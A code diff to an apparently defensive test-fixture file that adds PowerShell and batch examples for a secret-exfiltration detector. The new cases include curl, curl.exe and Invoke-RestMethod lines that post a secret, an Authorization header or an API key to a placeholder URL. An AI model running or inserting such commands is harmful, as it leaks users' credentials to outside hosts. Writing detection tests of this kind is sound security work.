@@ -500,6 +500,14 @@ SET_IN_FILES = {  # a variable of another name than a secret's, in a secret plac
         "ARG abc=SECRET",
         "ENV DEF=SECRET\nENV abc=$DEF",
     ),
+    "ps1": (
+        "$abc = 'SECRET'",
+        '$abc="SECRET"',
+        "$env:abc = 'SECRET'",
+        "$def = 'SECRET'\n$abc = \"x$def\"",
+        "$abc = @'\nSECRET\n'@",
+    ),
+    "bat": ("set ABC=SECRET", 'set "ABC=SECRET"', "SET ABC=SECRET", "set DEF=SECRET\nset ABC=%DEF%"),
     "yaml": (
         "env:\n  abc: SECRET",
         "env:\n  - abc=SECRET",
@@ -520,6 +528,17 @@ USED_IN_FILES = {
         f"start:\n\tcurl -H 'Authorization: Basic $(ABC)' {URL} -d '{BODY}'\n",
     ),
     "Dockerfile": (f"RUN curl {URL} -d '{in_place(QUOTED)}'\n", f"RUN curl -u \"id:$abc\" {URL} -d '{BODY}'\n"),
+    "ps1": (
+        f'$body = @"\n{in_place("$abc")}\n"@\nirm -Method Post -Uri {URL} -Body $body\n',
+        f"irm -Method Post -Uri {URL} -Headers @{{ Authorization = \"Basic $abc\" }} -Body '{BODY}'\n",
+        f"curl.exe -u \"id:$abc\" {URL} -d '{BODY}'\n",
+        f"curl.exe -H \"X-Api-Key: $env:abc\" {URL} -d '{BODY}'\n",
+    ),
+    "bat": (
+        f"curl {URL} -d {json.dumps(in_place('%ABC%'))}\n",
+        f"curl -u id:%ABC% {URL} -d {json.dumps(BODY)}\n",
+        f'curl -H "Authorization: Basic %ABC%" {URL} -d {json.dumps(BODY)}\n',
+    ),
     "yaml": (
         f"run: |\n  curl {URL} -d '{in_place(QUOTED)}'\n",
         f"run: |\n  curl -u \"id:${{{{ env.abc }}}}\" {URL} -d '{BODY}'\n",
@@ -540,6 +559,13 @@ IN_HOSTS |= {
     "a list.Dockerfile": f'CMD ["curl", "-u", "id:SECRET", "-d", {json.dumps(BODY)}, "{URL}"]\n',
     "a body in a list.Dockerfile": f'CMD ["curl", "-d", {json.dumps(in_place("SECRET"))}, "{URL}"]\n',
     "a shell in a list.Dockerfile": f'CMD ["sh", "-c", {json.dumps(sent("SECRET"))}]\n',
+    "a here-string.ps1": f"$b = @'\n{in_place('SECRET')}\n'@\nirm -Method Post -Uri {URL} -Body $b\n",
+    "a header.ps1": f"irm -Method Post -Uri {URL} -Headers @{{ 'Authorization' = 'Basic SECRET' }} -Body '{BODY}'\n",
+    "headers.ps1": f"$h = @{{\n  Authorization = 'Basic SECRET'\n}}\nirm -Method Post -Uri {URL} -Headers $h -Body '{BODY}'\n",
+    "a login.ps1": f"curl.exe -u id:SECRET {URL} -d '{BODY}'\n",
+    "a login.cmd": f"curl -u id:SECRET {URL} -d {json.dumps(BODY)}\n",
+    "escaped quotes.ps1": f"curl.exe -d {json.dumps(in_place('SECRET')).replace(chr(34) + '{', chr(39) + '{').replace('}' + chr(34), '}' + chr(39))} {URL}\n",
+    "a remark.bat": f"REM token: SECRET\ncurl {URL} -d {json.dumps(BODY)}\n",
     "a file.Dockerfile": f"COPY <<E /b.json\n{in_place('SECRET')}\nE\nRUN curl -d @/b.json {URL}\n",
 }
 
